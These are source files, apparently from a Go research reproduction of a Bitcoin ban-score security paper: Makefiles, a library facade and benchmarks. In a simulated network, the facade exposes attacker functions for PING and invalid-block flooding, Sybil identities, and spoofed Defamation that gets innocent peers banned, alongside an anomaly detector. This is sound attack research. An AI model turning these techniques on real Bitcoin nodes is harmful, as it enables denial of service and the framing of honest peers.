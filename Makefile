# Developer entry points. `make check` is the PR gate: vet, banlint,
# build, the full test suite under the race detector, and the telemetry
# hot-path benchmarks (one iteration — enough to catch a broken or
# regressing instrumentation path without benchmarking noise in CI).

GO ?= go

.PHONY: check vet lint lint-json lint-sarif alloc-gate alloc-baseline build test race bench bench-telemetry bench-trace bench-gate bench-baseline test-poolpoison chaos chaos-short chaos-crash fleet-short swarm-smoke swarm-full

check: vet lint alloc-gate build race test-poolpoison bench-telemetry bench-trace

vet:
	$(GO) vet ./...

# banlint: the repository's own analyzer suite (internal/lint). Zero
# findings is a merge requirement; waivers need //lint:allow with a reason.
lint:
	$(GO) run ./cmd/banlint ./...

lint-json:
	$(GO) run ./cmd/banlint -json ./...

lint-sarif:
	$(GO) run ./cmd/banlint -sarif banlint.sarif ./...

# Escape-analysis half of the hot-path allocation budget: compile every
# package containing //banlint:hotpath annotations with -gcflags=-m and
# diff the heap-escape diagnostics inside annotated functions against the
# committed ALLOC_BUDGET.json. The syntactic half (no make/new/closures on
# hot paths) is the allocbudget analyzer inside `make lint`.
alloc-gate:
	$(GO) run ./cmd/allocgate

# Refresh the committed escape budget (after reviewing an intentional
# change; commit the resulting ALLOC_BUDGET.json).
alloc-baseline:
	$(GO) run ./cmd/allocgate -update

build:
	$(GO) build ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race -shuffle=on ./...

# The wire buffer-pool suite again with poisoned releases: freed buffers
# are overwritten with 0xdb, so any retained alias of a Released payload
# fails loudly instead of reading recycled bytes.
test-poolpoison:
	$(GO) test -tags poolpoison -count=1 ./internal/wire/

bench-telemetry:
	$(GO) test -run xxx -bench BenchmarkTelemetry -benchtime 1x ./...

bench-trace:
	$(GO) test -run xxx -bench BenchmarkTraceDispatch -benchtime 1x ./...

# Full benchmark sweep (tables, figures, ablations). Slow; not part of check.
bench:
	$(GO) test -bench . -benchmem ./...

# Benchmark-regression gate. The gated families are the hot paths with
# committed baselines in BENCH_baseline.json: telemetry instrumentation,
# trace dispatch, the sharded ban-score engine, ban-list reads, the pooled
# wire codec, the banstore WAL append + recovery replay, and the fleet
# observer's store ingest. Fixed iteration counts keep run-to-run variance
# down; cmd/benchdiff fails the build past its tolerance, and any
# allocation on a zero-alloc baseline fails outright.
BENCH_GATE_PATTERN = 'BenchmarkTelemetry|BenchmarkTraceDispatch|BenchmarkBanScore|BenchmarkBanList|BenchmarkWire|BenchmarkReputation|BenchmarkNetgroup|BenchmarkWALAppend|BenchmarkRecovery|BenchmarkObserver'

# The swarm scenario bench is gated separately: one iteration IS a full
# 1000-peer Sybil swarm (admission, flood, churn, exact ban count), so it
# runs -benchtime 1x and benchdiff gates only its reported rates (peers/s,
# msgs/s — higher-is-better) and ns/msg, not the scenario's wall-clock
# ns/op, which includes readiness polling. ($$ is make's escape for the
# shell's literal $ anchor.)
SWARM_GATE_PATTERN = 'BenchmarkSwarmScale/peers=1000$$'

# -count=3: benchdiff keeps the per-metric minimum (maximum, for rates)
# across repeats, which filters scheduler noise far better than one long
# run on a busy machine.
bench-gate:
	{ $(GO) test -run xxx -bench $(BENCH_GATE_PATTERN) -benchtime 100000x -benchmem -count=3 -json ./... ; \
	  $(GO) test -run xxx -bench $(SWARM_GATE_PATTERN) -benchtime 1x -count=3 -json ./internal/swarm/ ; } | $(GO) run ./cmd/benchdiff

# Refresh the committed baseline (after an intentional perf change; run on
# a quiet machine and commit the resulting BENCH_baseline.json).
bench-baseline:
	{ $(GO) test -run xxx -bench $(BENCH_GATE_PATTERN) -benchtime 100000x -benchmem -count=3 -json ./... ; \
	  $(GO) test -run xxx -bench $(SWARM_GATE_PATTERN) -benchtime 1x -count=3 -json ./internal/swarm/ ; } | $(GO) run ./cmd/benchdiff -update

# Chaos scenarios: a mining node + honest peers + an attacker under 30%
# loss, injected resets, and a timed partition, always under the race
# detector. `chaos` runs the full storm; `chaos-short` is the CI variant
# with a shortened partition.
chaos:
	$(GO) test -race -count=1 -timeout 300s ./internal/chaos/

chaos-short:
	$(GO) test -race -short -count=1 -timeout 300s ./internal/chaos/

# Kill/restart chaos: the crash-storm scenarios (simulated and real
# SIGKILL) plus the banstore and fleet-observer recovery edge cases, under
# the race detector.
chaos-crash:
	$(GO) test -race -count=1 -timeout 300s -run 'Crash|Restart|Recover|SIGKILL' ./internal/banstore/ ./internal/chaos/ ./internal/node/ ./internal/observer/

# Fleet smoke: launch 3 real btcnode processes on loopback TCP, replay one
# Defamation identity and one Sybil identity against all of them at once,
# and write the cross-node ban-propagation result as a JSON artifact. The
# run is bounded by the fleet's 30s ban-propagation wait.
fleet-short:
	$(GO) run ./cmd/fleet -nodes 3 -sybils 1 -out fleet-propagation.json

# Swarm smoke: the event-loop engine's full test suite under the race
# detector (handshake, exact-threshold ban, slot reuse after churn,
# draining-shard churn, fault-plan teardown, oversized-frame rejection,
# EOF drain, plus the default 1500-peer scenario), then the scenario again
# at 10k identities without race overhead, then the experiments runner to
# produce the swarm JSON artifact. Leak assertions run via the package's
# leakcheck TestMain.
swarm-smoke:
	$(GO) test -race -shuffle=on -count=1 -timeout 600s ./internal/swarm/
	BANSCORE_SWARM_PEERS=10000 $(GO) test -count=1 -timeout 600s -run TestSwarmScenario ./internal/swarm/
	$(GO) run ./cmd/experiments -scale quick -only swarm -swarm-out swarm-smoke.json

# The headline scale run: 100k concurrent simulated attackers in one
# process, every identity banned. Minutes of runtime and a few GB of RSS;
# the nightly workflow pays this, the per-change gate does not.
swarm-full:
	$(GO) run ./cmd/experiments -scale paper -only swarm -swarm-out swarm-100k.json
