# Developer entry points. `make check` is the PR gate: vet, build, the
# full test suite under the race detector, and the telemetry hot-path
# benchmarks (one iteration — enough to catch a broken or regressing
# instrumentation path without benchmarking noise in CI).

GO ?= go

.PHONY: check vet build test race bench bench-telemetry

check: vet build race bench-telemetry

vet:
	$(GO) vet ./...

build:
	$(GO) build ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

bench-telemetry:
	$(GO) test -run xxx -bench BenchmarkTelemetry -benchtime 1x ./...

# Full benchmark sweep (tables, figures, ablations). Slow; not part of check.
bench:
	$(GO) test -bench . -benchmem ./...
