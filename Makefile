# Developer entry points. `make check` is the PR gate: vet, banlint,
# build, the full test suite under the race detector, and the telemetry
# hot-path benchmarks (one iteration — enough to catch a broken or
# regressing instrumentation path without benchmarking noise in CI).

GO ?= go

.PHONY: check vet lint lint-json build test race bench bench-telemetry bench-trace chaos chaos-short

check: vet lint build race bench-telemetry bench-trace

vet:
	$(GO) vet ./...

# banlint: the repository's own analyzer suite (internal/lint). Zero
# findings is a merge requirement; waivers need //lint:allow with a reason.
lint:
	$(GO) run ./cmd/banlint ./...

lint-json:
	$(GO) run ./cmd/banlint -json ./...

build:
	$(GO) build ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

bench-telemetry:
	$(GO) test -run xxx -bench BenchmarkTelemetry -benchtime 1x ./...

bench-trace:
	$(GO) test -run xxx -bench BenchmarkTraceDispatch -benchtime 1x ./...

# Full benchmark sweep (tables, figures, ablations). Slow; not part of check.
bench:
	$(GO) test -bench . -benchmem ./...

# Chaos scenarios: a mining node + honest peers + an attacker under 30%
# loss, injected resets, and a timed partition, always under the race
# detector. `chaos` runs the full storm; `chaos-short` is the CI variant
# with a shortened partition.
chaos:
	$(GO) test -race -count=1 -timeout 300s ./internal/chaos/

chaos-short:
	$(GO) test -race -short -count=1 -timeout 300s ./internal/chaos/
