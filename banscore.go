// Package banscore is a from-scratch Go reproduction of "The Security
// Investigation of Ban Score and Misbehavior Tracking in Bitcoin Network"
// (ICDCS 2022): a working Bitcoin P2P full node with Bitcoin Core's
// ban-score mechanism (Table I rules for 0.20.0/0.21.0/0.22.0), the paper's
// BM-DoS and Defamation attack toolkit, the lightweight identifier-oblivious
// anomaly-detection countermeasure, and an experiment harness regenerating
// every table and figure of the evaluation.
//
// The package is a facade over the internal implementation:
//
//   - Simulation: an in-memory network fabric (spoofing/sniffing-capable)
//     hosting victim nodes, attackers, and innocent peers.
//   - Node: the full node — wire protocol, chain and mempool validation,
//     peer slots, misbehavior tracking, bans, and outbound reconnection.
//   - Attacker: Bitcoin session client, message forging, flooding, Sybil
//     management, and both Defamation variants.
//   - Detector: the Monitor/Dataset/Analysis-engine countermeasure.
//
// See examples/ for runnable walkthroughs and cmd/experiments for the full
// reproduction suite.
package banscore

import (
	"fmt"
	"net"
	"sync/atomic"
	"time"

	"banscore/internal/attack"
	"banscore/internal/blockchain"
	"banscore/internal/core"
	"banscore/internal/detect"
	"banscore/internal/node"
	"banscore/internal/simnet"
	"banscore/internal/telemetry"
	"banscore/internal/trace"
	"banscore/internal/wire"
)

// Version of the library.
const Version = "1.0.0"

// Tracker modes (the §VIII countermeasure settings), re-exported.
const (
	ModeStandard          = core.ModeStandard
	ModeThresholdInfinity = core.ModeThresholdInfinity
	ModeDisabled          = core.ModeDisabled
	ModeGoodScore         = core.ModeGoodScore
	ModeCKB               = core.ModeCKB
)

// Bitcoin Core versions whose Table I rule sets are implemented.
const (
	V0_20_0 = core.V0_20_0
	V0_21_0 = core.V0_21_0
	V0_22_0 = core.V0_22_0
)

// PeerID is a connection identifier ([IP:Port]), the object bans apply to.
type PeerID = core.PeerID

// Simulation is an in-memory network hosting nodes and attackers. It
// provides the three attacker capabilities the paper's threat models assume:
// Sybil identities, source spoofing, and (for post-connection Defamation)
// sniffing plus stream injection.
type Simulation struct {
	fabric *simnet.Network
	closed atomic.Bool
}

// NewSimulation returns an empty fabric.
func NewSimulation() *Simulation {
	return &Simulation{fabric: simnet.NewNetwork()}
}

// Fabric exposes the underlying simnet for advanced use.
func (s *Simulation) Fabric() *simnet.Network { return s.fabric }

// Close shuts down the fabric and everything on it.
func (s *Simulation) Close() {
	if s.closed.CompareAndSwap(false, true) {
		s.fabric.Close()
	}
}

// NodeOption configures a simulated node.
type NodeOption func(*node.Config)

// WithTrackerMode selects a §VIII countermeasure mode.
func WithTrackerMode(mode core.Mode) NodeOption {
	return func(cfg *node.Config) { cfg.TrackerConfig.Mode = mode }
}

// WithCoreVersion selects which Bitcoin Core release's Table I rules apply.
func WithCoreVersion(v core.CoreVersion) NodeOption {
	return func(cfg *node.Config) { cfg.TrackerConfig.Version = v }
}

// WithBanThreshold overrides the default 100-point ban threshold.
func WithBanThreshold(threshold int) NodeOption {
	return func(cfg *node.Config) { cfg.TrackerConfig.BanThreshold = threshold }
}

// WithBanDuration overrides the default 24-hour ban duration.
func WithBanDuration(d time.Duration) NodeOption {
	return func(cfg *node.Config) { cfg.TrackerConfig.BanDuration = d }
}

// WithMiningDifficulty makes the node's chain require real hash grinding
// (used by the mining-impact experiments).
func WithMiningDifficulty() NodeOption {
	return func(cfg *node.Config) { cfg.ChainParams = blockchain.HardNetParams() }
}

// WithDetector attaches a Detector's monitor to the node's message path. It
// composes with WithTap and other observers via node.MultiTap.
func WithDetector(d *Detector) NodeOption {
	return func(cfg *node.Config) { cfg.Tap = node.MultiTap(cfg.Tap, d.monitor) }
}

// WithTap attaches an arbitrary observer to the node's message path,
// composing with any previously configured tap (a detector, another tap).
func WithTap(t node.Tap) NodeOption {
	return func(cfg *node.Config) { cfg.Tap = node.MultiTap(cfg.Tap, t) }
}

// WithTelemetry attaches a metrics registry and (optionally nil) event
// journal to the node: per-command message counters, dispatch latency,
// per-rule misbehavior counters, ban totals, slot occupancy, peer traffic,
// and typed events. Serve them with telemetry.NewServer.
func WithTelemetry(reg *telemetry.Registry, j *telemetry.Journal) NodeOption {
	return func(cfg *node.Config) {
		cfg.Telemetry = reg
		cfg.Journal = j
	}
}

// WithTracer attaches the message-lifecycle tracer to the node: sampled
// spans through wire decode, dispatch, ban scoring, and send. Install the
// same tracer on the Simulation's fabric (Fabric().SetTracer) to include
// conn_write spans, and remember to call Enable — tracers start disabled.
func WithTracer(t *trace.Tracer) NodeOption {
	return func(cfg *node.Config) { cfg.Tracer = t }
}

// WithForensics attaches a ban-forensics ledger to the node's tracker: every
// ban-score application is appended as an immutable record answering "why is
// this peer banned" even after scores reset or the peer is forgotten.
func WithForensics(l *core.Ledger) NodeOption {
	return func(cfg *node.Config) { cfg.Forensics = l }
}

// WithMaxInbound overrides the 117-inbound-slot default.
func WithMaxInbound(n int) NodeOption {
	return func(cfg *node.Config) { cfg.MaxInbound = n }
}

// WithReputationEviction enables the CKB-style slot policy (§IX-A): when
// inbound slots fill up, the lowest-negative-reputation peer is evicted for
// the newcomer. Combine with WithTrackerMode(ModeCKB).
func WithReputationEviction() NodeOption {
	return func(cfg *node.Config) { cfg.EvictLowestReputation = true }
}

// Node is a running full node inside a Simulation.
type Node struct {
	inner *node.Node
	sim   *Simulation
	addr  string
	ports atomic.Uint32
}

// StartNode launches a node listening at addr (e.g. "10.0.0.1:8333").
func (s *Simulation) StartNode(addr string, opts ...NodeOption) (*Node, error) {
	n := &Node{sim: s, addr: addr}
	cfg := node.Config{
		Dialer: func(remote string) (net.Conn, error) {
			port := 40000 + n.ports.Add(1)
			host, _, err := net.SplitHostPort(addr)
			if err != nil {
				host = "10.0.0.1"
			}
			return s.fabric.Dial(fmt.Sprintf("%s:%d", host, port), remote)
		},
	}
	for _, opt := range opts {
		opt(&cfg)
	}
	n.inner = node.New(cfg)
	l, err := s.fabric.Listen(addr)
	if err != nil {
		return nil, fmt.Errorf("start node at %s: %w", addr, err)
	}
	n.inner.Serve(l)
	return n, nil
}

// Addr returns the node's listen address.
func (n *Node) Addr() string { return n.addr }

// Internal exposes the underlying node for advanced use.
func (n *Node) Internal() *node.Node { return n.inner }

// ConnectTo opens an outbound connection to another node's address.
func (n *Node) ConnectTo(addr string) error { return n.inner.Connect(addr) }

// BanScore returns the tracked misbehavior score of a peer identifier.
func (n *Node) BanScore(id PeerID) int { return n.inner.Tracker().Score(id) }

// GoodScore returns the good-score credit of a peer identifier.
func (n *Node) GoodScore(id PeerID) int { return n.inner.Tracker().GoodScore(id) }

// IsBanned reports whether a peer identifier is currently banned.
func (n *Node) IsBanned(id PeerID) bool { return n.inner.Tracker().IsBanned(id) }

// BannedCount returns the number of banned identifiers.
func (n *Node) BannedCount() int { return n.inner.Tracker().BanList().Count() }

// PeerCount returns (inbound, outbound) connection counts.
func (n *Node) PeerCount() (int, int) { return n.inner.PeerCount() }

// ChainHeight returns the node's best block height.
func (n *Node) ChainHeight() int32 { return n.inner.Chain().BestHeight() }

// Stats returns a snapshot of node counters.
func (n *Node) Stats() node.Stats { return n.inner.Stats() }

// RankPeers returns connected peers by ascending reputation — the
// non-binary peer-health view built from retained scores.
func (n *Node) RankPeers() []node.PeerReputation { return n.inner.RankPeers() }

// Stop shuts the node down.
func (n *Node) Stop() { n.inner.Stop() }

// Attacker holds one attacker IP on the fabric and mints Sybil identifiers
// against a target node.
type Attacker struct {
	sim    *Simulation
	ip     string
	target string
	forge  *attack.Forge
	sybil  *attack.SybilManager
}

// NewAttacker returns an attacker at ip (e.g. "10.0.0.66") aimed at target.
func (s *Simulation) NewAttacker(ip, target string) *Attacker {
	dial := func(from, to string) (net.Conn, error) { return s.fabric.Dial(from, to) }
	return &Attacker{
		sim:    s,
		ip:     ip,
		target: target,
		forge:  attack.NewForge(blockchain.SimNetParams()),
		sybil:  attack.NewSybilManager(ip, target, wire.SimNet, dial),
	}
}

// Forge exposes the message-crafting toolkit.
func (a *Attacker) Forge() *attack.Forge { return a.forge }

// OpenSession connects with a fresh Sybil identifier and completes the
// version handshake.
func (a *Attacker) OpenSession() (*attack.Session, error) {
	return a.sybil.NextSession(5 * time.Second)
}

// OpenSessionAs connects with an explicit (possibly spoofed) source
// identifier — pre-connection Defamation uses this.
func (a *Attacker) OpenSessionAs(from string) (*attack.Session, error) {
	conn, err := a.sim.fabric.Dial(from, a.target)
	if err != nil {
		return nil, err
	}
	s := attack.NewSession(conn, wire.SimNet)
	if err := s.Handshake(5 * time.Second); err != nil {
		s.Close()
		return nil, err
	}
	return s, nil
}

// FloodPings sends count PING messages over a fresh session (BM-DoS
// vector 1: no ban rule exists for PING).
func (a *Attacker) FloodPings(count uint64) (attack.FloodResult, error) {
	s, err := a.OpenSession()
	if err != nil {
		return attack.FloodResult{}, err
	}
	defer s.Close()
	return attack.Flood(s, func() wire.Message { return a.forge.Ping() },
		attack.FloodOptions{Count: count}), nil
}

// FloodBogusBlocks floods invalid-PoW BLOCK payloads framed with corrupt
// checksums for the given duration (BM-DoS vector 2: dropped before
// misbehavior tracking, maximum transport-layer cost).
func (a *Attacker) FloodBogusBlocks(d time.Duration, txCount int) (attack.FloodResult, error) {
	s, err := a.OpenSession()
	if err != nil {
		return attack.FloodResult{}, err
	}
	defer s.Close()
	payload := attack.EncodeBlock(a.forge.BogusBlock(txCount))
	return attack.FloodRaw(s, wire.CmdBlock, payload, attack.FloodOptions{Duration: d}), nil
}

// DefamePreConnection spoofs the innocent identifier before it connects and
// misbehaves until the target bans it.
func (a *Attacker) DefamePreConnection(innocent string) (attack.DefamationResult, error) {
	dial := func(from, to string) (net.Conn, error) { return a.sim.fabric.Dial(from, to) }
	return attack.PreConnectionDefame(dial, innocent, a.target, wire.SimNet, 0)
}

// NewPostConnectionDefamer arms Algorithm 1 against an innocent peer's live
// connection. Arm it BEFORE the innocent connects so the eavesdropper sees
// the stream from its start; then call Run.
func (a *Attacker) NewPostConnectionDefamer(innocent string) *attack.PostConnectionDefamer {
	return attack.NewPostConnectionDefamer(a.sim.fabric, innocent, a.target, wire.SimNet)
}

// SerialDefame runs the Fig. 8 serial Sybil loop: fresh identifiers sending
// duplicate VERSIONs until each gets banned.
func (a *Attacker) SerialDefame(identifiers int, delay time.Duration) ([]attack.SerialResult, error) {
	me := wire.NewNetAddressIPPort(nil, 0, wire.SFNodeNetwork)
	you := wire.NewNetAddressIPPort(nil, 0, 0)
	return a.sybil.RunSerial(identifiers, func() wire.Message {
		return wire.NewMsgVersion(me, you, 1, 0)
	}, delay)
}

// Detector is the paper's anomaly-detection countermeasure: a Monitor
// collecting windowed message statistics and the statistical analysis
// engine with the c / n / Λ features.
type Detector struct {
	monitor *detect.Monitor
	engine  *detect.Engine
}

// NewDetector returns a detector with the given window (zero selects the
// paper's 10 minutes).
func NewDetector(window time.Duration) *Detector {
	return &Detector{monitor: detect.NewMonitor(window)}
}

// Monitor exposes the underlying monitor. It implements node.Tap directly,
// so it can be combined with other observers via node.MultiTap.
func (d *Detector) Monitor() *detect.Monitor { return d.monitor }

// Train fits the thresholds from the windows collected so far (which must
// be normal traffic) and returns them.
func (d *Detector) Train() (detect.Thresholds, error) {
	engine, _, err := detect.Train(d.monitor.Flush(), detect.Config{Margin: 1.15})
	if err != nil {
		return detect.Thresholds{}, err
	}
	d.engine = engine
	d.monitor.Reset()
	return engine.Thresholds(), nil
}

// TrainOn fits the thresholds from an explicit window set.
func (d *Detector) TrainOn(windows []detect.WindowStats) (detect.Thresholds, error) {
	engine, _, err := detect.Train(windows, detect.Config{Margin: 1.15})
	if err != nil {
		return detect.Thresholds{}, err
	}
	d.engine = engine
	return engine.Thresholds(), nil
}

// Detect evaluates the windows collected since training.
func (d *Detector) Detect() ([]detect.Detection, error) {
	if d.engine == nil {
		return nil, fmt.Errorf("detector is not trained")
	}
	verdicts, _ := d.engine.DetectAll(d.monitor.Flush())
	d.monitor.Reset()
	return verdicts, nil
}

// DetectWindows evaluates an explicit window set.
func (d *Detector) DetectWindows(windows []detect.WindowStats) ([]detect.Detection, error) {
	if d.engine == nil {
		return nil, fmt.Errorf("detector is not trained")
	}
	verdicts, _ := d.engine.DetectAll(windows)
	return verdicts, nil
}

// BanRules returns the full Table I catalog.
func BanRules() []core.Rule { return core.Catalog() }
