// Benchmarks regenerating the paper's evaluation artifacts as testing.B
// targets: one benchmark (family) per table and figure, plus ablation
// benches for the design choices DESIGN.md calls out. Run with
//
//	go test -bench=. -benchmem
//
// The full experiment harness with paper-style rendering lives in
// cmd/experiments; these benches expose the same measurements to standard
// Go tooling.
package banscore_test

import (
	"bytes"
	"fmt"
	"testing"
	"time"

	"banscore/internal/attack"
	"banscore/internal/blockchain"
	"banscore/internal/chainhash"
	"banscore/internal/core"
	"banscore/internal/detect"
	"banscore/internal/experiments"
	"banscore/internal/miner"
	"banscore/internal/mlbase"
	"banscore/internal/telemetry"
	"banscore/internal/trace"
	"banscore/internal/traffic"
	"banscore/internal/wire"
)

// benchEnv is a victim node + handshaken attacker peer for direct-injection
// message benchmarks.
type benchEnv struct {
	tb      *experiments.Testbed
	session *attack.Session
	peer    benchPeer
	forge   *attack.Forge
}

type benchPeer interface {
	HandshakeComplete() bool
}

func newBenchEnv(b *testing.B) (*experiments.Testbed, *attack.Session, *attack.Forge, processFunc) {
	b.Helper()
	tb, err := experiments.NewTestbed(experiments.TestbedConfig{
		TrackerConfig: core.Config{Mode: core.ModeThresholdInfinity},
	})
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(tb.Close)
	const attacker = "10.0.0.2:50001"
	s, err := tb.NewAttackSession(attacker)
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { s.Close() })
	p, err := tb.VictimPeer(attacker)
	if err != nil {
		b.Fatal(err)
	}
	forge := attack.NewForge(tb.Victim.Chain().Params())
	process := func(msg wire.Message) { tb.Victim.ProcessMessageDirect(p, msg, 0) }
	return tb, s, forge, process
}

type processFunc func(wire.Message)

// BenchmarkTelemetryNodeDispatch measures what the telemetry hooks cost on
// the node's hot dispatch path: the same direct-injection PING pipeline
// with no registry attached and with a live registry + journal. The
// enabled/disabled delta is the instrumentation overhead — one atomic
// counter increment through a single-entry command cache plus a 1-in-64
// sampled latency timing, ~6 ns (≈5%) on the development host.
func BenchmarkTelemetryNodeDispatch(b *testing.B) {
	run := func(b *testing.B, cfg experiments.TestbedConfig) {
		cfg.TrackerConfig = core.Config{Mode: core.ModeThresholdInfinity}
		tb, err := experiments.NewTestbed(cfg)
		if err != nil {
			b.Fatal(err)
		}
		b.Cleanup(tb.Close)
		const attacker = "10.0.0.2:50001"
		s, err := tb.NewAttackSession(attacker)
		if err != nil {
			b.Fatal(err)
		}
		b.Cleanup(func() { s.Close() })
		p, err := tb.VictimPeer(attacker)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			tb.Victim.ProcessMessageDirect(p, wire.NewMsgPing(uint64(i)), 0)
		}
	}
	b.Run("disabled", func(b *testing.B) {
		run(b, experiments.TestbedConfig{})
	})
	b.Run("enabled", func(b *testing.B) {
		run(b, experiments.TestbedConfig{
			Telemetry: telemetry.NewRegistry(),
			Journal:   telemetry.NewJournal(0),
		})
	})
}

// BenchmarkTraceDispatch measures what the message-lifecycle tracer costs
// on the node's hot dispatch path: the same direct-injection PING pipeline
// with no tracer threaded, with a tracer configured but disabled (the
// production resting state — one atomic load per message), and with tracing
// live at the default 1-in-64 and the maximal 1-in-1 sampling rates. The
// disabled variant must be indistinguishable from none; sample64 bounds the
// always-on overhead a node pays for a queryable flight recorder.
func BenchmarkTraceDispatch(b *testing.B) {
	run := func(b *testing.B, tracer *trace.Tracer) {
		tb, err := experiments.NewTestbed(experiments.TestbedConfig{
			TrackerConfig: core.Config{Mode: core.ModeThresholdInfinity},
			Tracer:        tracer,
			Forensics:     core.NewLedger(0, 0),
		})
		if err != nil {
			b.Fatal(err)
		}
		b.Cleanup(tb.Close)
		const attacker = "10.0.0.2:50001"
		s, err := tb.NewAttackSession(attacker)
		if err != nil {
			b.Fatal(err)
		}
		b.Cleanup(func() { s.Close() })
		p, err := tb.VictimPeer(attacker)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			tb.Victim.ProcessMessageDirect(p, wire.NewMsgPing(uint64(i)), 0)
		}
	}
	b.Run("none", func(b *testing.B) {
		run(b, nil)
	})
	b.Run("disabled", func(b *testing.B) {
		run(b, trace.New(trace.Config{}))
	})
	b.Run("sample64", func(b *testing.B) {
		tracer := trace.New(trace.Config{SampleN: 64})
		tracer.Enable()
		run(b, tracer)
	})
	b.Run("sample1", func(b *testing.B) {
		tracer := trace.New(trace.Config{SampleN: 1})
		tracer.Enable()
		run(b, tracer)
	})
}

// BenchmarkTable1Render regenerates Table I.
func BenchmarkTable1Render(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if experiments.Table1().Render() == "" {
			b.Fatal("empty table")
		}
	}
}

// BenchmarkTable2VictimProcessing measures victim-side processing per
// message type — the "Victim's impact" column of Table II.
func BenchmarkTable2VictimProcessing(b *testing.B) {
	tb, _, forge, process := newBenchEnv(b)

	bogus := forge.BogusBlock(400)
	if _, err := blockchain.Solve(bogus, tb.Victim.Chain().Params().PowLimit); err != nil {
		b.Fatal(err)
	}
	txPool := make([]*wire.MsgTx, 8192)
	for i := range txPool {
		txPool[i] = forge.ValidTx()
	}
	cases := []struct {
		name string
		msg  func(i int) wire.Message
	}{
		{"PING", func(int) wire.Message { return wire.NewMsgPing(1) }},
		{"TX", func(i int) wire.Message { return txPool[i%len(txPool)] }},
		{"BLOCK_bogus400tx", func(int) wire.Message { return bogus }},
		{"ADDR_oversize", func(int) wire.Message { return forge.OversizeAddr() }},
	}
	for _, tc := range cases {
		msg0 := tc.msg(0)
		b.Run(tc.name, func(b *testing.B) {
			_ = msg0
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				process(tc.msg(i))
			}
		})
	}
}

// BenchmarkTable2AttackerCraft measures attacker-side crafting per message
// type — the "Attacker's cost" column of Table II.
func BenchmarkTable2AttackerCraft(b *testing.B) {
	forge := attack.NewForge(blockchain.SimNetParams())
	cases := []struct {
		name  string
		craft func() wire.Message
	}{
		{"PING", func() wire.Message { return forge.Ping() }},
		{"TX", func() wire.Message { return forge.ValidTx() }},
		{"ADDR_oversize", func() wire.Message { return forge.OversizeAddr() }},
		{"HEADERS_oversize", func() wire.Message { return forge.OversizeHeaders() }},
	}
	for _, tc := range cases {
		b.Run(tc.name, func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				_ = tc.craft()
			}
		})
	}
}

// BenchmarkFigure6MiningContention measures the miner's per-hash cost alone
// and under a concurrent bogus-BLOCK flood — the mechanism behind Fig. 6.
func BenchmarkFigure6MiningContention(b *testing.B) {
	b.Run("baseline", func(b *testing.B) {
		rate := miner.HashRateSample(uint64(b.N))
		b.ReportMetric(rate, "hashes/s")
	})
	b.Run("under-block-flood", func(b *testing.B) {
		tb, s, forge, _ := newBenchEnv(b)
		_ = tb
		payload := attack.EncodeBlock(forge.BogusBlock(2000))
		stop := make(chan struct{})
		done := make(chan struct{})
		go func() {
			defer close(done)
			attack.FloodRaw(s, wire.CmdBlock, payload, attack.FloodOptions{Stop: stop})
		}()
		b.ResetTimer()
		rate := miner.HashRateSample(uint64(b.N))
		b.StopTimer()
		close(stop)
		<-done
		b.ReportMetric(rate, "hashes/s")
	})
}

// BenchmarkTable3PacketPaths compares the per-packet victim cost of the
// application-layer PING pipeline vs the kernel-path ICMP handling — the
// asymmetry behind Table III / Fig. 7.
func BenchmarkTable3PacketPaths(b *testing.B) {
	b.Run("bitcoin-ping-pipeline", func(b *testing.B) {
		_, _, _, process := newBenchEnv(b)
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			process(wire.NewMsgPing(uint64(i)))
		}
	})
	b.Run("icmp-kernel-path", func(b *testing.B) {
		tb, err := experiments.NewTestbed(experiments.TestbedConfig{})
		if err != nil {
			b.Fatal(err)
		}
		b.Cleanup(tb.Close)
		host := tb.Fabric.NewPacketHost("10.0.0.1")
		b.Cleanup(host.Close)
		payload := make([]byte, 64)
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			for !tb.Fabric.SendPacket(host, "198.51.100.1", payload) {
				time.Sleep(time.Microsecond)
			}
		}
	})
}

// BenchmarkFigure8DefamationPrimitive measures the per-message cost of the
// Defamation primitive: a duplicate VERSION through the victim pipeline,
// including misbehavior scoring.
func BenchmarkFigure8DefamationPrimitive(b *testing.B) {
	_, _, _, process := newBenchEnv(b)
	me := wire.NewNetAddressIPPort(nil, 0, wire.SFNodeNetwork)
	you := wire.NewNetAddressIPPort(nil, 0, 0)
	version := wire.NewMsgVersion(me, you, 1, 0)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		process(version)
	}
}

// BenchmarkFigure10Detection measures the per-window cost of the trained
// statistical engine — the testing-latency side of Fig. 10/11.
func BenchmarkFigure10Detection(b *testing.B) {
	t0 := time.Unix(1700000000, 0)
	windows := detect.WindowsFromEvents(
		traffic.NewGenerator(42).Events(t0, 35*time.Hour), nil, detect.DefaultWindow)
	engine, _, err := detect.Train(windows, detect.Config{Margin: 1.15})
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		engine.Detect(windows[i%len(windows)])
	}
}

// BenchmarkFigure11Training compares training cost: the statistical engine
// vs each ML baseline on the same dataset.
func BenchmarkFigure11Training(b *testing.B) {
	t0 := time.Unix(1700000000, 0)
	windows := detect.WindowsFromEvents(
		traffic.NewGenerator(42).Events(t0, 35*time.Hour), nil, detect.DefaultWindow)
	commands := []string{
		wire.CmdTx, wire.CmdInv, wire.CmdGetData, wire.CmdHeaders,
		wire.CmdPing, wire.CmdPong, wire.CmdAddr, wire.CmdVersion, wire.CmdVerAck,
	}
	x := mlbase.Dataset(windows, commands)
	y := make([]float64, len(x))
	for i := range y {
		y[i] = float64(i % 2) // alternating labels keep supervised fits busy
	}

	b.Run("Ours", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			if _, _, err := detect.Train(windows, detect.Config{}); err != nil {
				b.Fatal(err)
			}
		}
	})
